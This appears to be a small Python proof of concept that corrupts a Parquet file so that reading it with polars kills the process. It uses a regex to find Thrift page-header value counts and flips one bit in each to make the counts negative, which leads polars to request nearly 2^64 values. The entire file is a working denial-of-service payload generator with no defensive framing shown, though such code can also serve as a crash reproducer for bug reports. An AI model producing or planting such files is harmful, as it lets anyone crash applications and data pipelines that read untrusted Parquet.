"""Parquet that ends the process of whoever reads it with polars."""

import re


def impossible(parquet: bytes) -> bytes:
    """Make data pages hold less than no values, by one bit each: polars asks for nearly 2^64 of them."""
    data = bytearray(parquet)
    # thrift: field 5 of a page's header is a struct (2c) whose field 1 is a number (15): 2n, or 2n + 1 below zero
    numbers = list(re.finditer(rb"\x2c\x15[\x80-\xff]*[\x00-\x7f]\x15", data))
    assert numbers
    for number in numbers:
        data[number.start() + 2] |= 1
    return bytes(data)
